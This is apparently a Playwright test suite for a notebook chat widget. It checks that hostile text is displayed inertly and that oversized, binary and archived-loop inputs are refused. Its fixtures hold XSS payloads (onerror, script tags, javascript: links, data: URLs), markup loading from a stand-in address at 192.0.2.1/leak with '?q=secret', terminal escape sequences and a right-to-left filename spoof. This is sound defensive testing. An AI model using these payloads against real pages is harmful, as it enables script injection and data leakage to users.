"""What agents, people and mishaps put in: a readable sentence, nothing executed, nothing lost."""

from __future__ import annotations

import re

import pytest
from playwright.async_api import Request, expect

from tests.support.mock_model import Gate, Hold, MockModel, Text, Thinking, ask, asked, bash

from . import saved_file
from .chat import Chat, show
from .conftest import OpenNotebook
from .notebook_page import Face
from .notebook_server import NotebookServer

pytestmark = pytest.mark.slow(25)

ELSEWHERE = "http://192.0.2.1/leak"
"""An address for documentation; a request to it is what :attr:`NotebookPage.foreign` catches."""

MARKUP = (
    "<img src=x onerror=\"window.pwned='img'\"><script>window.pwned='script'</script>"
    f"<svg onload=\"window.pwned='svg'\"></svg><iframe src='{ELSEWHERE}/frame'></iframe>"
    f"<style>@import url({ELSEWHERE}/style.css)</style><link rel=stylesheet href={ELSEWHERE}/l>"
    "<a href=\"javascript:window.pwned='href'\">here</a>"
)
MARKDOWN = (
    f"![picture]({ELSEWHERE}/image.png?q=secret) [link](javascript:window.pwned='link') "
    f"[data](data:text/html,<script>parent.pwned='data'</script>) [fine]({ELSEWHERE}/page)\n\n"
    f"[ref]: {ELSEWHERE}/ref\n\n![again][ref] $\\href{{javascript:window.pwned='math'}}{{x}}$\n\n"
)
ESCAPES = "\x1b[31mred\x1b[0m \x1b]8;;http://192.0.2.1/osc\x07osc\x1b]8;;\x07 \x1b[2Jgone "
TURNED = "abc\u202etxt.exe\u202c def"
HOSTILE = f"{MARKUP} {MARKDOWN} {ESCAPES} {TURNED} the end of it"
ONE_LINE = f"{MARKUP} {ESCAPES} {TURNED} last words"
PWNED = "() => window.pwned"
ACTIVE = "script, iframe, img, object, embed, link, style, form[action], [onerror], [onload]"


async def test_hostile_text_is_shown_and_does_nothing(
    open_notebook: OpenNotebook, face: Face, notebook_server: NotebookServer, model: MockModel
) -> None:
    """In a title, a message, thinking, an answer, a tool's input and result, a question."""
    loop_id = notebook_server.new_loop(MARKUP[:190])
    page = await open_notebook(face, show(loop_id), "1 + 1")
    await page.run(0)
    chat = await Chat(page).live()
    result = f"cat <<'EOF'\n{HOSTILE}\nEOF"
    script = model.script(
        [Thinking(HOSTILE), Text(HOSTILE), bash(result, description=ONE_LINE)],
        [ask(asked(ONE_LINE, f"A {ONE_LINE}", f"B {ONE_LINE}", header=MARKUP[:60]))],
        [Text(f"{HOSTILE}\n\n```html\n{HOSTILE}\n```\n\n| a | b |\n|---|---|\n| {MARKUP} | x |\n")],
    )
    await chat.send(script.message(HOSTILE))
    choice = await chat.asked()
    await expect(choice).to_contain_text("onerror")
    await expect(choice.locator(".loopat-mark").first).to_be_visible()  # what cannot be seen
    await page.picture("hostile-permission")
    await chat.allow()
    question = chat.region.locator("[data-loopat-choice][data-state=pending][data-kind=question]")
    await question.get_by_role("radio").first.check()
    await page.picture("hostile-question")
    await question.get_by_role("button", name="Answer").click()
    turn = await chat.ended(0)
    for folded in await turn.locator("summary").all():
        await folded.click()
    card = turn.locator("[data-loopat-tool=Bash]")
    await expect(card.locator("code").last).to_contain_text("the end of it")

    said = await turn.locator("[data-loopat-role=user]").inner_text()
    assert MARKUP in said, "what a person wrote is all there"
    assert "\x1b" not in await turn.inner_text()
    await expect(turn.locator("[data-loopat-role=assistant]").last).to_contain_text("the end of it")
    for link in await chat.region.locator("a[href]").all():
        href = await link.get_attribute("href")
        assert re.match("https?:|mailto:", href or ""), href
        assert "noopener" in (await link.get_attribute("rel") or "")
    await expect(chat.region.locator(ACTIVE)).to_have_count(0)

    await expect(chat.story).to_contain_text("the end of it")
    await page.save()
    await page.reload()  # what is in the file is drawn by the front end itself
    await page.run(1)
    await chat.story.locator("summary").first.click()
    await expect(chat.story).to_contain_text("the end of it")
    await expect(page.output(0).locator("script, iframe, img, object, embed")).to_have_count(0)
    assert await page.page.evaluate(PWNED) is None
    await page.picture("hostile")
    saved_file.hold_no_secret(page)


async def test_what_is_too_large_or_no_text_is_refused_and_kept(
    open_notebook: OpenNotebook, notebook_server: NotebookServer, model: MockModel
) -> None:
    loop_id = notebook_server.new_loop("Paste")
    page = await open_notebook(Face.NOTEBOOK, show(loop_id))
    await page.run(0)
    chat = await Chat(page).live()

    huge = (250 * "0123456789abcde " + "\n") * 263
    await chat.send(huge)
    await expect(chat.region).to_contain_text("a message has at most 1 MiB")
    assert len(await chat.field.input_value()) == len(huge)
    await chat.send("PK\x03\x04\0\0binary")
    await expect(chat.region).to_contain_text("looks like binary data")
    await expect(chat.field).to_have_value(re.compile("binary"))
    await chat.send("   \n ")
    await expect(chat.region).to_contain_text("nothing to send")
    await expect(chat.turns).to_have_count(0)

    large = "large paste " * 60_000
    script = model.script([Text("I read it.")])
    await chat.send(script.message(large))
    turn = await chat.ended(0)
    await expect(turn).to_contain_text("I read it.")
    await expect(turn.locator("[data-loopat-role=user]")).to_contain_text("show all")
    assert script.requests[0].user_texts()[-1].count("large paste") == 60_000
    await page.picture("paste")


async def test_an_archived_loop_is_read_and_takes_no_messages(
    open_notebook: OpenNotebook, notebook_server: NotebookServer, model: MockModel
) -> None:
    """Archived under an open chat; and shown when it was archived long before."""
    loop_id = notebook_server.new_loop("Archive")
    page = await open_notebook(Face.NOTEBOOK, show(loop_id), show(loop_id))
    await page.run(0)
    chat = await Chat(page).live()
    await chat.send(model.script([Text("Remember me. "), bash("true")]).message("hello"))
    await chat.asked()
    await chat.field.fill("half a thought")
    notebook_server.loop_api("DELETE", f"loops/{loop_id}")
    await chat.ended(0, "interrupted")
    await expect(chat.choices).to_have_attribute("data-state", "cancelled")
    await expect(chat.region).to_contain_text("This loop is archived")
    await expect(chat.field).to_have_value("half a thought")
    await expect(chat.region.get_by_role("button", name="Send message")).to_be_disabled()

    await page.run(1)
    later = await Chat(page, 1).live()
    await expect(later.region).to_contain_text("Remember me.")
    await expect(later.region).to_contain_text("This loop is archived")
    await expect(later.field).to_be_disabled()
    await later.accessible()
    await page.picture("archived")


WRONG_TOKEN = """\
import os
os.environ["LOOPAT_URL"], os.environ["LOOPAT_TOKEN"] = {url!r}, "la_" + 48 * "0"
"""
FORGET = 'del os.environ["LOOPAT_URL"], os.environ["LOOPAT_TOKEN"]'


async def test_what_is_not_there_or_not_allowed_is_said_in_a_sentence(
    open_notebook: OpenNotebook, notebook_server: NotebookServer, model: MockModel
) -> None:
    """A wrong token, no such loop, a session that ended, a widget that was taken away."""
    loop_id = notebook_server.new_loop("Refusals")
    page = await open_notebook(
        Face.LAB,
        WRONG_TOKEN.format(url=notebook_server.url),
        show(loop_id),
        FORGET,
        show("loop_00000000-0000-4000-8000-000000000000"),
        show(loop_id),
        show(loop_id),
        "chat.close()",
        own_kernel=True,
    )
    await page.run(0)
    await expect(await page.run(1, may_fail=True)).to_have_text(re.compile(r"token.*line 2 of"))
    await page.run(2)
    await expect(await page.run(3, may_fail=True)).to_have_text(re.compile(r"no such loop.*line 2"))

    await page.run(4)
    chat = await Chat(page, 4).live()
    gate = Gate()
    script = model.script([Text("going on "), Hold(gate), Text("without you")])
    await chat.send(script.message("deleted"))
    await expect(chat.answers).to_contain_text("going on")
    async with page.page.expect_event("requestfailed", _is_stream):
        await page.delete(4)
    await page.run(4)  # the next cell is in its place
    again = await Chat(page, 4).live()
    await expect(again.answers).to_contain_text("going on")
    async with page.page.expect_event("requestfailed", _is_stream):
        await page.run(5)  # closes the widget in the kernel
    gate.open()
    await page.run(4)
    await expect(await again.ended(0)).to_contain_text("going on without you")
    await page.picture("refusals")
    await page.save()
    saved_file.hold_no_secret(page)


def _is_stream(request: Request) -> bool:
    return request.url.endswith("/events")
